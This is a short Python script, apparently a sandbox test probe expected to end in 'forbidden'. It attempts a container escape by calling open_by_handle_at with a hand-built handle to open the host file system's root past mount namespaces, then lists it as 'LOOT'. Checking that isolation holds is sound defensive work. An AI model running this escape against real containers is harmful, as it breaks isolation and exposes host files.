# Opens the root folder of a file system by its handle, which no mount namespace hides.
# ends: forbidden, open_by_handle_at
import ctypes
import json
import os
import sys

about = json.load(sys.stdin)
libc = ctypes.CDLL(None, use_errno=True)
handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
got = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
if got < 0:
    raise OSError(ctypes.get_errno(), "open_by_handle_at")
print("LOOT", os.listdir(got))
